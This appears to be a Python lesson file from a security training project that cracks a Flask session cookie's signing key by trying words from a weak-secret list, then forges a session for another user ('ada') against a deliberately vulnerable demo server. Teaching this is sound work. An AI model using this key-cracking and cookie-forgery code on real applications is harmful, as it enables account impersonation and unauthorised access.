"""Lesson 02: Flask's session cookie signed with a word-list key, against a random key."""

from __future__ import annotations

from pathlib import Path

from itsdangerous import BadSignature

from demo_server.signed.clocked_session import session_serializer

from ..auth import MALLORY
from . import attack, twin_route

WORDS = (Path(__file__).resolve().parents[2] / "notebooks" / "data" / "weak-secrets.txt").read_text().split()


def crack_and_forge(app, login: str, profile: str) -> bool:
    """Log in as mallory, find the cookie's key in the word list, sign a cookie for ada."""
    set_cookie = app.test_client().post(login, json=MALLORY).headers["Set-Cookie"]
    name, _, rest = set_cookie.partition("=")
    cookie = rest.partition(";")[0]
    with app.app_context():  # the serializer stamps cookies with the app's clock
        key = next((word for word in WORDS if _verifies(word, cookie)), None)
        if key is None:
            return False
        forged = session_serializer([key]).dumps({"user": "ada"})
    answer = app.test_client(use_cookies=False).get(profile, headers={"Cookie": f"{name}={forged}"})
    return answer.status_code == 200 and answer.json.get("user") == "ada"


def _verifies(key: str, cookie: str) -> bool:
    try:
        session_serializer([key]).loads(cookie)
    except BadSignature:
        return False
    return True


@attack("/vuln/signed/login")
def crack_the_key_of_the_login_cookie(app, target) -> bool:
    return crack_and_forge(app, target, twin_route(target, "/vuln/signed", "/signed", "/profile"))


@attack("/vuln/signed/profile")
def forged_cookie_for_another_user(app, target) -> bool:
    return crack_and_forge(app, twin_route(target, "/vuln/signed", "/signed", "/login"), target)
